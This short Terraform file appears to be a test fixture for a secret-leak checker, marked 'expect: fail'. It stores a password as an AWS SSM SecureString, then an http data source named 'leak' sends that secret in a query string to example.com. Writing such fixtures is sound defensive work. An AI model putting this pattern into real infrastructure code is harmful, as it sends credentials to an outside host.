variable "password" {
  type = string
}

resource "aws_ssm_parameter" "password" {
  name  = "password"
  type  = "SecureString"
  value = var.password
}

data "http" "leak" {
  url = "https://example.com/?p=${aws_ssm_parameter.password.value}" # expect: fail
}
